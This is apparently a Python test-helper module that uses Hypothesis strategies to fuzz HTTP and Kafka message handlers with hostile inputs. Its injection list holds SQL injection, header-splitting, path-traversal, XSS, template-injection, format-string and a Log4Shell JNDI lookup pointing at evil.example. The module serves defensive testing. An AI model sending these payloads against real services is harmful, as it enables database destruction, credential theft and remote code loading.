"""Hostile values for HTTP requests and Kafka messages (hypothesis strategies, no I/O).

Every generated string carries MARK, so an answer or a dead-letter reason that repeats the input
is caught by looking for MARK alone.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator, Sequence
from typing import Any

from hypothesis import strategies as st

MARK = "Zq9hostile"

INJECTIONS: tuple[str, ...] = (
    f"' OR '1'='1' -- {MARK}",
    f"'; DROP TABLE events; -- {MARK}",
    f"\"; DELETE FROM inbox WHERE ''=''; -- {MARK}",
    f"1 UNION SELECT key_id, wrapped_key FROM participant_keys -- {MARK}",
    f"$$; SELECT pg_sleep(30); $$ {MARK}",
    f"{MARK}\r\nSet-Cookie: session=stolen",
    f"{MARK}%0d%0aLocation:%20https://evil.example",
    f"{MARK}\nX-Injected: yes",
    f"../../../../etc/passwd#{MARK}",
    f"..\\..\\..\\windows\\win.ini#{MARK}",
    f"%2e%2e%2f%2e%2e%2fetc%2fpasswd#{MARK}",
    f"/etc/passwd\x00{MARK}.png",
    f"<script>alert('{MARK}')</script>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"javascript:alert('{MARK}')",
    f"{{{{7*7}}}}{MARK}",
    f"${{jndi:ldap://evil.example/{MARK}}}",
    f"%s%s%s%n{MARK}",
    f"\u202e{MARK}gnp.exe",
    f"{MARK}\u200b\ufeff\u2028",
)

#: Control characters that plain text may hold (tab and line breaks).
_ALLOWED_CONTROLS = frozenset("\t\n\r")


#: What pydantic's str_strip_whitespace trims (Unicode White_Space, as Rust's str::trim).
WHITE_SPACE = ("\t\n\x0b\x0c\r \x85\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006"
               "\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000")


def as_received(text: str) -> str:
    """The text a server decodes from its JSON escapes: a surrogate pair is one character."""
    try:
        return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le")
    except UnicodeDecodeError:  # a lone surrogate stays as it is
        return text


def is_dirty(text: str) -> bool:
    """Control characters (but tab and line breaks) or lone surrogates, once the white space a
    command trims is trimmed: never plain text."""
    text = as_received(text).strip(WHITE_SPACE)
    return any(
        (unicodedata.category(c) == "Cc" and c not in _ALLOWED_CONTROLS)
        or unicodedata.category(c) == "Cs"
        for c in text
    )


def _marked(core: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.tuples(core, core).map(lambda ab: ab[0] + MARK + ab[1])


control_text = _marked(st.text(st.characters(categories=["Cc"]), min_size=1, max_size=4))
surrogate_text = _marked(st.text(st.characters(categories=["Cs"]), min_size=1, max_size=2))
#: Longer than any text field allows (4000) but under every body limit.
long_text = st.integers(4001, 20_000).map(lambda n: MARK + "A" * n)
any_text = st.text(max_size=40).map(lambda s: s + MARK)

hostile_text: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(INJECTIONS), control_text, surrogate_text, long_text, any_text,
)

hostile_key: st.SearchStrategy[str] = st.one_of(
    st.sampled_from([f"mood_{MARK}", f"__proto__{MARK}", f"Zanele Smith {MARK}",
                     f"constructor.{MARK}", f"{MARK}" + "k" * 300]),
    control_text, surrogate_text, any_text,
)


# --- JSON trees: paths, mutations -------------------------------------------------------------

Path = tuple[str | int, ...]


def paths(tree: Any, prefix: Path = ()) -> Iterator[Path]:
    """Every location in a JSON tree (containers and leaves), the root excluded."""
    items: Sequence[tuple[str | int, Any]]
    if isinstance(tree, dict):
        items = list(tree.items())
    elif isinstance(tree, list):
        items = list(enumerate(tree))
    else:
        return
    for key, value in items:
        yield (*prefix, key)
        yield from paths(value, (*prefix, key))


def get(tree: Any, path: Path) -> Any:
    for key in path:
        tree = tree[key]
    return tree


def replaced(tree: Any, path: Path, value: Any) -> Any:
    copy = json.loads(json.dumps(tree))
    parent = get(copy, path[:-1])
    parent[path[-1]] = value
    return copy


def removed(tree: Any, path: Path) -> Any:
    copy = json.loads(json.dumps(tree))
    parent = get(copy, path[:-1])
    del parent[path[-1]]
    return copy


def added(tree: Any, path: Path, key: str, value: Any) -> Any:
    copy = json.loads(json.dumps(tree))
    get(copy, path)[key] = value
    return copy


def wrong_kind(value: Any) -> st.SearchStrategy[Any]:
    """A value of a JSON kind no field of `value`'s kind accepts (pydantic coerces the rest)."""
    if isinstance(value, dict):
        return st.sampled_from([[1, MARK], 42, MARK, True])
    if isinstance(value, list):
        return st.sampled_from([{"x": MARK}, 42, True])
    return st.sampled_from([[MARK], {"x": MARK}, [[[]]]])


def nested(depth: int, leaf: Any = MARK) -> str:
    """JSON nested `depth` deep (as text: json.dumps would hit the recursion limit first)."""
    return "[" * depth + json.dumps(leaf) + "]" * depth


def dumps(tree: Any) -> bytes:
    """JSON as a client would send it; lone surrogates travel as \\uD800 escapes."""
    return json.dumps(tree, ensure_ascii=True).encode()


@st.composite
def malformed_json(draw: st.DrawFn, valid: bytes) -> bytes:
    """Broken JSON text made from a valid document."""
    how = draw(st.sampled_from(["truncate", "trailing", "bad_utf8", "single_quotes", "garbage",
                                "lone_surrogate_in_key", "nan"]))
    if how == "truncate":
        return valid[: draw(st.integers(0, len(valid) - 1))]
    if how == "trailing":
        return valid + draw(st.sampled_from([b"}", b",", b" x", b"\x00", b"]]]"]))
    if how == "bad_utf8":
        at = valid.find(b'":"') + 3 if b'":"' in valid else valid.find(b'": "') + 4
        junk = draw(st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80"]))
        return valid[:at] + junk + valid[at:] if at > 3 else b'{"k": "' + junk + b'"}'
    if how == "single_quotes":
        return valid.replace(b'"', b"'")
    if how == "lone_surrogate_in_key":
        return b'{"\\ud800' + MARK.encode() + b'": 1, ' + valid.lstrip(b"{")
    if how == "nan":
        return b'{"' + MARK.encode() + b'": NaN, ' + valid.lstrip(b"{")
    return draw(st.binary(min_size=1, max_size=200))
